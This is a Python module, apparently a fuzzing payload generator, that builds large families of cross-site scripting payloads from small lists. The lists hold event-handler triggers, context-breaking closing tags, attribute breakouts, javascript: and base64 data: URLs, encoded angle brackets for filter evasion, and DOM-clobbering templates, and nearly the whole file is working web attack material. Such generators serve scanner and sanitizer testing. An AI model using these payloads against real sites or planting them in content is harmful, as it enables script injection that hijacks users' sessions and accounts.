"""Families of payloads: each a product of small lists.

`RUN` stands for the script, `ENTITIES` and `ESCAPES` for the same script in character references
and with an escaped letter.
"""

import html
from collections.abc import Iterator

RUN, ENTITIES, ESCAPES = "RUN", "R-ENTITIES", "R-ESCAPES"
# What runs by itself where the markup stands; {} is the attribute's value.
_TRIGGERS = (
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<video src=x onerror={}></video>",
    "<object data=x: onerror={}></object>",
    "<iframe onload={}></iframe>",
    "<style onload={}>x{{}}</style>",
    "<script src=data:, onload={}></script>",
    "<link rel=stylesheet href=data:text/css, onload={}>",
    "<marquee onstart={}>x</marquee>",
    "<select autofocus onfocus={}></select>",
    "<x tabindex=1 autofocus onfocus={}>x</x>",
    "<image src=x onerror={}>",
    "<svg><image href=x onerror={} /></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s /></svg>",
    "<svg><set onbegin={} attributeName=x to=y /></svg>",
    "<embed src=data:text/html, onload={}>",
    "<svg><script>1</script><a onfocus={} tabindex=1 autofocus>x</a></svg>",
    "<math><mtext></p><img src=x onerror={}></mtext></math>",
    "<picture><img srcset=x onerror={}></picture>",
    "<template></template><img src=x onerror={}>",
)
_QUOTES = ("{}", "'{}'", '"{}"', "`{}`")
# The same script in other words and letters.
_SPELLINGS = (
    ENTITIES, ESCAPES, "top.RUN", "void RUN", "x=1;RUN;//", "/**/RUN/**/", "(()=>{RUN})()",
    'eval("RUN")', 'setTimeout("RUN")', "[1].map(_=>RUN)", "\u2003RUN\ufeff", "javascript:RUN",
)  # fmt: skip
_SEPARATORS = ("/", "//", " / ", "\u00a0", "\u3000", ' x="" ', " x='>' ", "/x=y/", " x=`>` ")
# What ends the place in which a page might have put the text.
_WAYS_OUT = (
    "</style>", "</title>", "</textarea>", "</script>", "</noscript>", "</template>", "</select>",
    "</iframe>", "</xmp>", "</svg>", "</math>", "</table>", "</td></tr></table>", "</a>", "</bdi>",
    "</code></h3></article></main></body></html>", "-->", "--!>", "]]>", "?>", "*/", "*/</style>",
    '">', "'>", "`>", '\\">', '"/>', "x>", '"></title>', "'></script>", '"></script>',
    "</SCRIPT >", "</script/x>", "<!--<script>", "<!--", "<![CDATA[", "<xmp>",
    "<noscript><p title='",
)  # fmt: skip
_INSIDE = (
    "<script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<svg/onload=RUN>",
    "<script>RUN//",
    "<details open ontoggle=RUN>",
)
# What leaves an attribute and adds others.
_LEAVING = ('"', "'", "x", '" x="', "' x='", '"/')
_HANDLERS = (
    "onerror=RUN src=x",
    "autofocus tabindex=1 onfocus=RUN",
    "style=animation:x onanimationstart=RUN",
    "onmouseover=RUN style=position:fixed;inset:0",
    "onclick=RUN accesskey=x",
    "onload=RUN onbegin=RUN ontoggle=RUN",
    "onfocusin=RUN contenteditable autofocus",
    "srcdoc='<script>parent.RUN</script>'",
)
_ADDRESSES = (
    "javascript:RUN", "JaVaScRiPt:RUN", "java&#x73;cript:RUN", "javascript&colon;RUN",
    "java&Tab;script:RUN", "java&NewLine;script:RUN", "javascript:/*-->*/RUN",
    "javascript://%0aRUN", "javascript:'<script>parent.RUN</script>'",
    "data:text/html,<script>parent.RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.RUN'/>",
    "vbscript:RUN", "view-source:javascript:RUN", "blob:javascript:RUN",
)  # fmt: skip
_LOADING = (
    "{}",
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<a href="{}" autofocus onfocus=this.click()>x</a>',
    '<form action="{}"><button autofocus onfocus=this.click()>x</button></form>',
)
# What leaves a string, a comment or a template of a script.
_STRINGS = ('"', "'", "`", "\\", '\\"', "\\'", "\\`", "*/", "x\u2028", "x\u2029", "-->", "<!--")
_AFTER = (";RUN//", "-RUN-", "+RUN+", "};RUN;{", "];RUN;[")
_LESS_THAN = (
    "&lt;", "&lt", "&LT", "&#60;", "&#60", "&#x3c;", "&#x0003C", "%3C", "%253C", "\\x3c", "\\u003c",
    "\\u{3c}", "\\74", "\uff1c", "\u2039", "\ufe64", "\u00ab", "+ADw-", "\u00bc", "<\u200b",
    "<\ufeff", "<\u00ad", "<\u0338",
)  # fmt: skip
_MARKUP = ("script>RUN</script>", "img src=x onerror=RUN>", "svg/onload=RUN>")
_NAMES = (
    "location", "document", "cookie", "body", "head", "forms", "children", "attributes", "history",
    "getElementById", "querySelector", "addEventListener", "__proto__", "constructor", "top",
)  # fmt: skip
_NAMED = (
    "<a id={0}><a id={0} name=hash href=cid:RUN>",
    "<form id={0}><input name={0} value=RUN></form>",
    "<img name={0} id={0}>",
)
_STATES = ("#", "#q=", "#?q=", "?q=", "#/", "#change=added&q=", "#:~:text=", "#!")
_STATED = ("<img src=x onerror=RUN>", '"><svg onload=RUN>', "javascript:RUN")


def families() -> Iterator[str]:
    """Give the templates of all families."""
    for trigger in _TRIGGERS:
        yield from (trigger.format(quote.format(RUN)) for quote in _QUOTES)
    for spelling in _SPELLINGS:
        yield from (trigger.format(f"'{spelling}'") for trigger in _TRIGGERS[:4])
    yield from (f"<img{gap}src=x{gap}onerror=RUN>" for gap in _SEPARATORS)
    yield from (f"<svg{gap}onload=RUN>" for gap in _SEPARATORS)
    yield from (way + inside for way in _WAYS_OUT for inside in _INSIDE)
    yield from (f"{leave} {handler}" for leave in _LEAVING for handler in _HANDLERS)
    yield from (load.format(address) for load in _LOADING for address in _ADDRESSES)
    yield from (f"<iframe srcdoc='{html.escape(i).replace('RUN', 'parent.RUN')}'>" for i in _INSIDE)
    yield from (string + after for string in _STRINGS for after in _AFTER)
    yield from (sign + markup for sign in _LESS_THAN for markup in _MARKUP)
    yield from (named.format(name) for name in _NAMES for named in _NAMED)
    yield from (state + stated for state in _STATES for stated in _STATED)
